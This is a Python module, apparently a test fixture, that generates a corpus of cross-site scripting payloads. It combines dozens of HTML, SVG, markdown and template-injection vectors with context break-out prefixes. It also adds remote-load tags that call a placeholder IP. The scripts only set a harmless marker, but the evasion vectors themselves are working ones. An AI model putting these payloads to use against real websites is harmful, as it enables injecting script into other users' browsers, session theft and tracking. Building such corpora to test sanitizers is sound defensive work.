"""Texts that try to become something else than text: a script, a handler, a link that runs, a remote load.

Ways to run a piece of script, times the kinds of it, times what is put around it to break out of where the
text stands. Whatever runs sets `window.hacked`; whatever loads asks 198.51.100.7, which is nobody's machine.
"""

from itertools import cycle, islice

_REMOTE = "http://198.51.100.7/x"
_SCRIPTS = ("window.hacked=1", "top['hacked']=1", "eval('hacked=1')", "self.hacked=1;//")
_TAGS = (
    "<script>{js}</script>",
    "<SCRIPT/x>{js}</SCRIPT>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    '<img src=x onerror="{js}">',
    "<img src=x:x onerror={js} x",
    '<image href=x onerror="{js}">',
    '<svg onload="{js}">',
    "<svg><script>{js}</script></svg>",
    '<svg><a xlink:href="javascript:{js}"><text>x</text></a></svg>',
    '<svg><animate onbegin="{js}" attributeName=x dur=1s>',
    '<svg><style><img src=x onerror="{js}"></style></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="{js}">',
    '<math href="javascript:{js}">x</math>',
    '<body onload="{js}">',
    '<video><source onerror="{js}"></video>',
    '<audio src=x onerror="{js}"></audio>',
    '<details open ontoggle="{js}">x</details>',
    '<input autofocus onfocus="{js}">',
    '<select autofocus onfocus="{js}"></select>',
    '<marquee onstart="{js}">x</marquee>',
    '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
    '<iframe src="javascript:parent.{js}"></iframe>',
    '<object data="javascript:{js}"></object>',
    '<embed src="javascript:{js}">',
    '<a href="javascript:{js}">click</a>',
    '<a href="jAvAsCrIpT&colon;{js}">click</a>',
    '<a href="java\tscript:{js}">click</a>',
    '<a href="data:text/html,<script>{js}</script>">click</a>',
    '<form action="javascript:{js}"><button>x</button></form>',
    '<button formaction="javascript:{js}">x</button>',
    '<base href="javascript:/{js}//">',
    '<meta http-equiv=refresh content="0;url=javascript:{js}">',
    '<template><img src=x onerror="{js}"></template>',
    '<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>',
    '<xmp><img title="</xmp><img src=x onerror={js}>"></xmp>',
    '<p style="animation:x" onanimationstart="{js}">x</p>',
    "[click](javascript:{js})",
    "[click](<javascript:{js}>)",
    '[click]( jAvAscript:{js} "title")',
    "[click](&#x6A;avascript:{js})",
    "[click][ref]\n[ref]: javascript:{js}",
    "![x](javascript:{js})",
    '![x" onerror="{js}](x)',
    "<javascript:{js}>",
    "[click](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==)",
    "[click](vbscript:{js})",
    "${{{js}}}",
    "{{{{{js}}}}}",
    "{{{{constructor.constructor('{js}')()}}}}",
    "<%= {js} %>",
    "{{%raw%}}{js}{{%endraw%}}",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;img src=x onerror={js}&#62;",
    "\u2028<script>{js}</script>\u202e",
    '<!--><img src=x onerror="{js}">-->',
    '<![CDATA[<img src=x onerror="{js}">]]>',
    '<?xml-stylesheet href="javascript:{js}"?>',
)
_AROUND = (
    "{}",
    '">{}',
    "'>{}",
    "</mark></blockquote>{}",
    "</textarea></title></style>{}",
    '" x="{}',
    "--><p>{}",
)
_LOADS = (
    f'<img src="{_REMOTE}">',
    f'<img srcset="{_REMOTE} 2x">',
    f'<link rel=stylesheet href="{_REMOTE}">',
    f"<style>@import '{_REMOTE}';</style>",
    f'<p style="background:url({_REMOTE})">x</p>',
    f'<iframe src="{_REMOTE}"></iframe>',
    f'<svg><image href="{_REMOTE}"/></svg>',
    f'<svg><use href="{_REMOTE}#x"/></svg>',
    f'<video poster="{_REMOTE}" src="{_REMOTE}"></video>',
    f'<object data="{_REMOTE}"></object>',
    f"![pixel]({_REMOTE})",
    f'<script src="{_REMOTE}"></script>',
    f'<body background="{_REMOTE}">',
    f'<input type=image src="{_REMOTE}">',
)


def payloads() -> list[str]:
    """Every way with every break-out, the kinds of script in turn, each on one line."""
    scripts = cycle(_SCRIPTS)
    made = [around.format(tag.format(js=next(scripts))) for tag in _TAGS for around in _AROUND]
    made += [around.format(load) for load in _LOADS for around in islice(_AROUND, 2)]
    return [" ".join(one.split("\n")) for one in made]
